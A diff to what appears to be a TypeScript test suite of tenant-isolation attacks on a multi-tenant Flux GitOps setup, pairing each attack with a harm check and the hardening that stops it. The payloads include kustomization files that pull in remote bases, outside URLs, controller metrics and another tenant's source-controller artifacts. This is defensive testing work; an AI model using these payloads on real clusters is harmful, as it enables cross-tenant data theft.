@@ -1,5 +1,15 @@
 /** Attacks by notifications, remote bases and the status of Flux' objects. */
-import { type Attack, at, core, manifests, of, type Tenant, worker } from './attack.ts';
+import {
+  type Attack,
+  at,
+  kustomized,
+  manifests,
+  of,
+  plainManifests,
+  type See,
+  type Tenant,
+  worker,
+} from './attack.ts';
 
 const source = 'source.toolkit.fluxcd.io/v1';
 const notification = 'notification.toolkit.fluxcd.io';
@@ -74,46 +84,46 @@ const patchStatus = (t: Tenant, name: string) => ({
   args: ['patch', `gitrepository/${name}`, '--subresource=status', '--type=merge', '-p', stolen(t)],
 });
 
+/** What a kustomization.yaml read into a ConfigMap. */
+const wasRead = async (t: Tenant, see: See): Promise<string> =>
+  (await see(at.core(t.namespace, 'configmaps', 'read')))?.data?.list ?? '';
+
 export const remoteAttacks: Attack[] = [
   {
     name: 'remote-base',
     attempt: 'a kustomization.yaml with a base in a repository elsewhere',
-    commit: (t) => ({
-      'kustomization.yaml': JSON.stringify({
-        namespace: t.namespace,
-        resources: [`${t.url}.git//inner/remote?ref=main`],
-      }),
-    }),
+    commit: (t) =>
+      kustomized(t.namespace, {}, { resources: [`${t.url}.git//inner/remote?ref=main`] }),
     harm: async (t, see) => (await see(at.core(t.namespace, 'configmaps', 'made'))) !== undefined,
     reference: 'Flux lockdown',
-    hardened: 'Flux lockdown',
+    hardened: 'plain manifests',
   },
   {
     name: 'remote-file',
     attempt: 'a kustomization.yaml with a file that the controller fetches from any address',
-    commit: (t) => ({ 'kustomization.yaml': `resources: ['${t.outside}/remote.yaml']\n` }),
+    commit: (t) => kustomized(t.namespace, { files: [`list=${t.outside}/remote.yaml`] }),
     harm: async (t, see) => (await see(`seen:/${t.field}/remote.yaml`)) !== undefined,
     reference: 'FluxInstance patch',
-    hardened: 'FluxInstance patch',
+    hardened: 'plain manifests',
+  },
+  {
+    name: 'remote-metrics',
+    attempt: 'the same from the controller itself: its metrics name the syncs of all tenants',
+    commit: (t) => kustomized(t.namespace, { files: [`list=${t.metrics}/metrics`] }),
+    harm: async (t, see) => (await wasRead(t, see)).includes('controller_runtime_'),
+    reference: 'FluxInstance patch',
+    hardened: 'plain manifests',
   },
   {
     name: 'remote-artifact',
     attempt: 'the same from the source-controller: which commits of another tenant it holds',
-    commit: (t) => ({
-      'kustomization.yaml': JSON.stringify({
-        namespace: t.namespace,
-        configMapGenerator: [
-          { name: 'read', files: [`list=${t.artifacts}/gitrepository/${t.victim}/${t.repo}/`] },
-        ],
-        generatorOptions: { disableNameSuffixHash: true },
+    commit: (t) =>
+      kustomized(t.namespace, {
+        files: [`list=${t.artifacts}/gitrepository/${t.victim}/${t.repo}/`],
       }),
-      'other.yaml': [core('ConfigMap', { name: 'other' })],
-    }),
-    harm: async (t, see) =>
-      /\.tar\.gz/.test((await see(at.core(t.namespace, 'configmaps', 'read')))?.data?.list),
+    harm: async (t, see) => (await wasRead(t, see)).includes('.tar.gz'),
     reference: 'nobody',
-    hardened: 'nobody',
-    confined: true,
+    hardened: 'plain manifests',
   },
   {
     name: 'status-of-sync',
@@ -138,6 +148,7 @@ export const remoteAttacks: Attack[] = [
             interval: '1h',
             url: t.url,
             ref: { branch: 'main' },
+            ignore: plainManifests,
           },
         ),
       ),
